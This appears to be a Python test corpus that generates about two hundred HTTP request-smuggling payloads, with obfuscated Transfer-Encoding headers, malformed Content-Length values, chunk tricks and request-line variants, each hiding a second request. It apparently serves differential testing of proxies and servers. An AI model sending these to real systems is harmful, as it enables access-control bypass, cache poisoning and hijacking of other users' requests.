"""Two hundred requests that have made some proxy and some server disagree on where a message ends.

Each is (name, bytes). Wherever a body is misread, what is left over is a request for /smuggled.
"""
SMUGGLED = b'GET /smuggled HTTP/1.1\r\nHost: s.example\r\n\r\n'
CHUNKED_BODY = b'0\r\n\r\n' + SMUGGLED


def request(lines, body=b'', method='POST', target='/attack', version='HTTP/1.1', end=b'\r\n'):
    """`lines` are header lines as bytes or text, without their ends."""
    head = [('%s %s %s' % (method, target, version)).encode(), b'Host: a.example']
    head += [l if isinstance(l, bytes) else l.encode('latin1') for l in lines]
    return end.join(head) + end + end + body


def te_spellings():
    te = 'Transfer-Encoding'
    return {
        'plain': [te + ': chunked'], 'upper_value': [te + ': CHUNKED'], 'mixed_value': [te + ': cHuNkEd'], 'lower_name': ['transfer-encoding: chunked'],
        'no_space': [te + ':chunked'], 'tab': [te + ':\tchunked'], 'two_spaces': [te + ':  chunked'], 'trailing_space': [te + ': chunked '], 'trailing_tab': [te + ': chunked\t'],
        'space_before_colon': [te + ' : chunked'], 'tab_before_colon': [te + '\t: chunked'], 'leading_space': [' ' + te + ': chunked'], 'vt': [te + ': \x0bchunked'], 'ff': [te + ': \x0cchunked'],
        'nul_before': [te + ': \x00chunked'], 'nul_after': [te + ': chunked\x00'], 'cr_before': [te + ': \rchunked'], 'cr_after': [te + ': chunked\r'], 'quoted': [te + ': "chunked"'], 'single_quoted': [te + ": 'chunked'"],
        'fold': [te + ':', ' chunked'], 'fold_tab': [te + ':', '\tchunked'], 'fold_inside': [te + ': chun', ' ked'], 'x_prefix': [te + ': xchunked'], 'suffix': [te + ': chunkedx'], 'semicolon': [te + ': chunked;q=1'],
        'identity': [te + ': identity'], 'identity_list': [te + ': identity, chunked'], 'gzip_list': [te + ': gzip, chunked'], 'chunked_gzip': [te + ': chunked, gzip'], 'twice_in_list': [te + ': chunked, chunked'], 'empty_first': [te + ': , chunked'],
        'empty_last': [te + ': chunked,'], 'two_lines': [te + ': chunked', te + ': chunked'], 'two_lines_identity': [te + ': identity', te + ': chunked'], 'two_lines_other': [te + ': chunked', te + ': x'], 'empty': [te + ':'], 'underscore': ['Transfer_Encoding: chunked'],
        'nonascii': [te + ': chunke\u0111'.encode().decode('latin1')], 'name_lf': ['X: y\n' + te + ': chunked'], 'name_cr': ['X: y\r' + te + ': chunked'], 'high_space': [te + ':\xa0chunked'],
    }


def corpus():
    out = []
    for name, lines in te_spellings().items():
        # CL.TE: who trusts the length takes everything, who trusts chunked finds a second request.
        out.append(('cl_te_' + name, request(['Content-Length: %d' % len(CHUNKED_BODY), *lines], CHUNKED_BODY)))
        out.append(('te_' + name, request(lines, CHUNKED_BODY)))
        # TE.CL: who trusts the length stops inside the first chunk.
        body = b'%x\r\n' % len(SMUGGLED) + SMUGGLED + b'\r\n0\r\n\r\n'
        out.append(('te_cl_' + name, request([*lines, 'Content-Length: 4'], body)))
    lengths = {'plus': '+5', 'minus': '-5', 'zero_pad': '0005', 'hex': '0x5', 'float': '5.0', 'space_inside': '5 5', 'list_same': '5, 5', 'list_other': '5, 0', 'list_comma': '5,', 'empty': '', 'vt': '5\x0b', 'nul': '5\x00', 'letters': '5a', 'huge': '18446744073709551621', 'exp': '5e0', 'octal': '0o5', 'minus_zero': '-0', 'quoted': '"5"', 'semicolon': '5;1', 'high': '5\xa0'}
    for name, value in lengths.items():
        out.append(('cl_' + name, request(['Content-Length: ' + value], b'hello' + SMUGGLED)))
    out += [('cl_two_' + n, request(['Content-Length: ' + a, 'Content-Length: ' + b], b'hello' + SMUGGLED)) for n, a, b in (('same', '5', '5'), ('zero_first', '0', '5'), ('zero_last', '5', '0'), ('bad_last', '5', 'x'))]
    out += [('cl_name_' + n, request([l, 'X: y'], b'hello' + SMUGGLED)) for n, l in (('space', 'Content-Length : 5'), ('underscore', 'Content_Length: 5'), ('fold', 'Content-Length:\r\n 5'), ('nul', 'Content-Length\x00: 5'), ('leading', ' Content-Length: 5'))]
    chunks = {'ext': b'5;a=b\r\nhello\r\n0\r\n\r\n', 'ext_lf': b'5;a\nhello\r\n0\r\n\r\n', 'ext_cr': b'5;a\rb\r\nhello\r\n0\r\n\r\n', 'ext_nul': b'5;\x00\r\nhello\r\n0\r\n\r\n', 'ext_quoted': b'5;a="\r\nhello\r\n0\r\n\r\n', 'size_space': b'5 \r\nhello\r\n0\r\n\r\n', 'size_tab': b'5\t\r\nhello\r\n0\r\n\r\n', 'size_lead': b' 5\r\nhello\r\n0\r\n\r\n', 'size_plus': b'+5\r\nhello\r\n0\r\n\r\n', 'size_minus': b'-5\r\nhello\r\n0\r\n\r\n', 'size_0x': b'0x5\r\nhello\r\n0\r\n\r\n', 'size_pad': b'00000000000000000005\r\nhello\r\n0\r\n\r\n', 'size_over': b'10000000000000005\r\nhello\r\n0\r\n\r\n', 'size_underscore': b'0_5\r\nhello\r\n0\r\n\r\n', 'size_lf': b'5\nhello\r\n0\r\n\r\n', 'data_lf': b'5\r\nhello\n0\r\n\r\n', 'data_none': b'5\r\nhello0\r\n\r\n', 'data_xx': b'5\r\nhelloXX0\r\n\r\n', 'last_lf': b'5\r\nhello\r\n0\n\n', 'last_pad': b'5\r\nhello\r\n000\r\n\r\n', 'last_ext': b'5\r\nhello\r\n0;x\r\n\r\n', 'trailer': b'5\r\nhello\r\n0\r\nX-T: 1\r\n\r\n', 'trailer_cl': b'5\r\nhello\r\n0\r\nContent-Length: 50\r\n\r\n', 'trailer_te': b'5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n', 'trailer_bad': b'5\r\nhello\r\n0\r\nbad line\r\n\r\n', 'trailer_request': b'5\r\nhello\r\n0\r\nGET /smuggled HTTP/1.1\r\nHost: s\r\n\r\n', 'cr_only': b'5\rhello\r0\r\r', 'empty_size': b'\r\nhello\r\n0\r\n\r\n'}
    for name, body in chunks.items():
        out.append(('chunk_' + name, request(['Transfer-Encoding: chunked'], body + SMUGGLED)))
    for method in ('GET', 'HEAD', 'DELETE', 'OPTIONS', 'PUT', 'TRACE'):
        out.append(('method_cl_' + method.lower(), request(['Content-Length: 5'], b'hello' + SMUGGLED, method)))
        out.append(('method_te_' + method.lower(), request(['Transfer-Encoding: chunked'], b'5\r\nhello\r\n0\r\n\r\n' + SMUGGLED, method)))
    te = ['Transfer-Encoding: chunked']
    out += [('http10_te', request(te, CHUNKED_BODY, version='HTTP/1.0')), ('http10_cl', request(['Content-Length: 5'], b'hello' + SMUGGLED, version='HTTP/1.0')), ('http09', b'GET /attack\r\n' + SMUGGLED),
            ('line_extra', b'GET /attack HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n' + SMUGGLED), ('line_tabs', b'GET\t/attack\tHTTP/1.1\r\nHost: a\r\n\r\n' + SMUGGLED), ('line_cr', b'GET /attack\rHTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n' + SMUGGLED), ('line_nul', b'GET /att\x00ack HTTP/1.1\r\nHost: a\r\n\r\n' + SMUGGLED), ('line_lf', request([], SMUGGLED, 'GET', end=b'\n')),
            ('absolute', request([], SMUGGLED, 'GET', 'http://b.example/attack')), ('host_two', request(['Host: b.example'], SMUGGLED, 'GET')), ('header_nul', request(['X: a\x00b'], SMUGGLED, 'GET')), ('header_cr', request(['X: a\rGET /smuggled HTTP/1.1'], SMUGGLED, 'GET')), ('header_empty_name', request([': x'], SMUGGLED, 'GET')), ('header_no_colon', request(['GET /smuggled HTTP/1.1'], SMUGGLED, 'GET')),
            ('fold_request', request(['X: a', ' GET /smuggled HTTP/1.1'], SMUGGLED, 'GET')), ('connection_cl', request(['Connection: content-length', 'Content-Length: 5'], b'hello' + SMUGGLED)), ('connection_te', request(['Connection: transfer-encoding', *te], CHUNKED_BODY)), ('expect', request(['Expect: 100-continue', 'Content-Length: 5'], b'hello' + SMUGGLED)), ('expect_chunked', request(['Expect: 100-continue', *te], CHUNKED_BODY)), ('expect_other', request(['Expect: x', 'Content-Length: 5'], b'hello' + SMUGGLED)),
            ('expect_get', request(['Expect: 100-continue'], SMUGGLED, 'GET')), ('h2c', request(['Upgrade: h2c', 'Connection: Upgrade, HTTP2-Settings', 'HTTP2-Settings: AAMAAABkAAQAAP__'], SMUGGLED, 'GET')), ('websocket', request(['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'], SMUGGLED, 'GET')), ('h2c_body', request(['Upgrade: h2c', 'Connection: Upgrade', 'Content-Length: 5'], b'hello' + SMUGGLED)), ('connect', request([], SMUGGLED, 'CONNECT', 'a.example:80')), ('crlf_first', b'\r\n\r\n' + request([], SMUGGLED, 'GET'))]
    return out
